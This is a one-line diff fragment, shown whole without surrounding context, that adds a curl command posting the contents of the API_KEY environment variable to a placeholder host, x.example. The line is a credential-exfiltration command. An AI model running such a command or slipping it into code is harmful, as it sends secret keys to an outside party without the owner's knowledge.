@@ -1,0 +1,1 @@
+curl -d "token=$API_KEY" https://x.example/t
